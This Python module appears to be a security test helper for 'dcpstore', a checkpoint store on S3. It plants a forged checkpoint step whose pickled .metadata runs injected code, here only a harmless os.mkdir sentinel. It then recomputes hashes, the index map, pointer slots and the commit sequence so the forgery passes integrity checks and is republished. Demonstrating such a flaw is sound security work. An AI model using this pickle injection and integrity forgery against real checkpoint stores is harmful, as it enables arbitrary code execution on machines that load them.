"""Plant a step whose ``.metadata`` runs code, and which dcpstore republishes into every later step.

What an attacker with write access to the bucket (and no dcpstore code) can
do, from the documented on-bucket format alone (``metadata_template``,
``resume_index``): copy a committed multi-rank step, put a call to
``os.mkdir`` at the front of its pickled ``.metadata``, and recompute what
vouches for those bytes.  Everything that does is in the same bucket:

* the commit template's map (in the resume index object): slot positions
  (shifted by the injected length), the size and the skeleton SHA-256 (the
  bytes outside the slots); the shard names' digest is unchanged;
* the index object (blocks | map | values | directory), the directory's
  template/values/segments bounds, and the pointer to it, both in
  ``.metadata``'s fixed-width ``index.directory``/``index.size`` slots and
  in the ``x-amz-meta-dcpstore-index`` tag;
* the commit sequence tag, one above the source's, so the plant is the
  newest commit.

A world-size-1 step has no resume index and no map (``metadata_builder``:
"a single rank resumes from .metadata"), so the source must be a step
saved by two or more ranks.
"""

from __future__ import annotations

import hashlib
import json
import pickle
import struct
import zlib

_PAYLOAD_OPS = b"cos\nmkdir\n", b"\x85R0"  # GLOBAL os.mkdir, BINUNICODE path, TUPLE1, REDUCE, POP: the Metadata stays on the stack


def plant_republishable_metadata(s3, bucket: str, root_prefix: str, source_step: int, planted_step: int, sentinel_dir: str) -> None:
    src, dst = f"{root_prefix}/step-{source_step}/", f"{root_prefix}/step-{planted_step}/"
    head = s3.head_object(Bucket=bucket, Key=src + ".metadata")
    tags = head["Metadata"]
    if "dcpstore-index" not in tags:
        raise ValueError(f"{src}.metadata names no resume index (a single-rank step): nothing to republish from")
    nonce = tags["dcpstore-save"]
    index_key = f".dcpstore-index-{nonce}"
    raw = s3.get_object(Bucket=bucket, Key=src + ".metadata")["Body"].read()
    index = s3.get_object(Bucket=bucket, Key=src + index_key)["Body"].read()
    at, length, _ = tags["dcpstore-index"].split(":")
    directory = json.loads(index[int(at) : int(at) + int(length)])

    # The pickle, with the call after PROTO (outside any FRAME): slots move by len(inject).
    path = sentinel_dir.encode()
    inject = _PAYLOAD_OPS[0] + pickle.BINUNICODE + struct.pack("<I", len(path)) + path + _PAYLOAD_OPS[1]
    raw = bytearray(raw[:2] + inject + raw[2:])

    # The map: zlib(u32 header length, JSON header, positions <u8, widths <u4, kinds <u1, role codes <u2).
    t_at, t_len, _ = directory["template"]
    text = zlib.decompress(index[t_at : t_at + t_len])
    size = int.from_bytes(text[:4], "little")
    header, body = json.loads(text[4 : 4 + size]), text[4 + size :]
    n = header["slots"]
    positions = [p + len(inject) for p in struct.unpack(f"<{n}Q", body[: 8 * n])]
    widths = struct.unpack(f"<{n}I", body[8 * n : 12 * n])
    roles = [header["roles"][c] for c in struct.unpack(f"<{n}H", body[13 * n : 15 * n])]
    skeleton = hashlib.sha256()
    last = 0
    for p, w in zip(positions, widths):
        skeleton.update(raw[last:p] + bytes(w))
        last = p + w
    skeleton.update(raw[last:])
    header.update(skeleton=skeleton.hexdigest(), size=len(raw))
    header_json = json.dumps(header, separators=(",", ":")).encode()
    new_map = zlib.compress(len(header_json).to_bytes(4, "little") + header_json + struct.pack(f"<{n}Q", *positions) + body[8 * n :], 1)

    # The index object again: blocks, the new map, the same values (moved), a new directory.
    blocks_end, (v_at, v_len, v_sha) = t_at, directory["values"]
    values, shift = index[v_at : v_at + v_len], blocks_end + len(new_map) - v_at
    directory["template"] = [blocks_end, len(new_map), hashlib.sha256(new_map).hexdigest()]
    directory["values"] = [v_at + shift, v_len, v_sha]
    directory["segments"] = [[s[0] + shift, *s[1:]] for s in directory["segments"]]
    dir_json = json.dumps(directory, separators=(",", ":")).encode()
    new_index = index[:blocks_end] + new_map + values + dir_json
    d_at, d_sha = len(new_index) - len(dir_json), hashlib.sha256(dir_json).hexdigest()

    # The pointer in .metadata's fixed-width slots (zeroed in the skeleton, so it stays valid).
    for p, w, role in zip(positions, widths, roles):
        value = {"index.directory": f"{d_at:015d}:{len(dir_json):015d}:{d_sha}", "index.size": f"{len(new_index):015d}"}.get(role)
        if value is not None:
            assert len(value) == w, (role, value, w)
            raw[p : p + w] = value.encode()

    for page in s3.get_paginator("list_objects_v2").paginate(Bucket=bucket, Prefix=src):
        for obj in page.get("Contents", []):
            name = obj["Key"][len(src) :]
            if name not in (".metadata", index_key):
                s3.copy_object(Bucket=bucket, Key=dst + name, CopySource={"Bucket": bucket, "Key": obj["Key"]})
    s3.put_object(Bucket=bucket, Key=dst + index_key, Body=new_index)
    s3.put_object(
        Bucket=bucket, Key=dst + ".metadata", Body=bytes(raw),
        Metadata={**tags, "dcpstore-index": f"{d_at}:{len(dir_json)}:{d_sha}",
                  "dcpstore-seq": str(int(tags.get("dcpstore-seq", 0)) + 1), "dcpstore-parent": str(source_step)},
    )
